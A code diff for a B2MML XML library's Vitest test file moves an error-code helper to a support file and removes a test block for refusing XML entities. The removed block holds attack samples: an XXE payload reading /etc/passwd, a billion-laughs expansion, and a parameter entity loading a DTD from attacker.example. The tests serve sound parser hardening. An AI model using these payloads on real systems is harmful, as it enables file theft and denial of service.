@@ -1,6 +1,5 @@
 import { beforeAll, describe, expect, it } from 'vitest';
 import {
-  B2mmlError,
   b2mmlSchemaDir,
   buildAcknowledgeOperationsSchedule,
   buildOperationsPerformance,
@@ -12,6 +11,7 @@ import {
   type PerformanceDoc,
   type ScheduleDoc,
 } from './index.ts';
+import { codeOf } from './b2mml-error-code.test-support.ts';
 
 const schedule: ScheduleDoc = {
   id: 'SO-1001',
@@ -82,16 +82,6 @@ const performance: PerformanceDoc = {
     },
   ],
 };
-
-function codeOf(fn: () => unknown): string | undefined {
-  try {
-    fn();
-  } catch (e) {
-    if (e instanceof B2mmlError) return e.code;
-    throw e;
-  }
-  return undefined;
-}
 
 const count = (xml: string, tag: string) => xml.split(`<${tag}>`).length - 1;
 
@@ -235,44 +225,6 @@ describe('reading an inbound OperationsSchedule', () => {
       createdAt: '2025-04-01T10:00:00Z',
       requests: [{ id: '000100', producedItem: 'BIKE-26', qty: 5, uom: 'ST', consumed: [] }],
     });
-  });
-});
-
-describe('inbound safety: entities are refused, never resolved', () => {
-  const xxe = `<?xml version="1.0"?>
-<!DOCTYPE ProcessOperationsSchedule [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
-<ProcessOperationsSchedule xmlns="http://www.mesa.org/xml/B2MML" releaseID="V0701">
-  <DataArea><Process/><OperationsSchedule><ID>&xxe;</ID></OperationsSchedule></DataArea>
-</ProcessOperationsSchedule>`;
-  const laughs = `<?xml version="1.0"?>
-<!DOCTYPE lolz [
- <!ENTITY lol "lol">
- <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
- <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
- <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
- <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
-]>
-<ProcessOperationsSchedule><DataArea><OperationsSchedule><ID>&lol9;</ID></OperationsSchedule></DataArea></ProcessOperationsSchedule>`;
-  const parameterEntity = `<!doctype x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><x/>`;
-
-  it('an external entity (XXE) is refused', () => {
-    expect(() => parseOperationsSchedule(xxe)).toThrow(B2mmlError);
-    expect(codeOf(() => parseOperationsSchedule(xxe))).toBe('external-entities');
-  });
-
-  it('entity expansion (billion laughs) is refused', () => {
-    expect(codeOf(() => parseOperationsSchedule(laughs))).toBe('external-entities');
-    expect(codeOf(() => parseOperationsSchedule(Buffer.from(laughs)))).toBe('external-entities');
-  });
-
-  it('a lower-case doctype with a parameter entity is refused', () => {
-    expect(codeOf(() => parseOperationsSchedule(parameterEntity))).toBe('external-entities');
-  });
-
-  it('the validator answers such documents invalid without reading them', async () => {
-    const result = await validateB2mml(xxe);
-    expect(result.valid).toBe(false);
-    expect(result.errors[0]).toMatch(/^external-entities/);
   });
 });
 
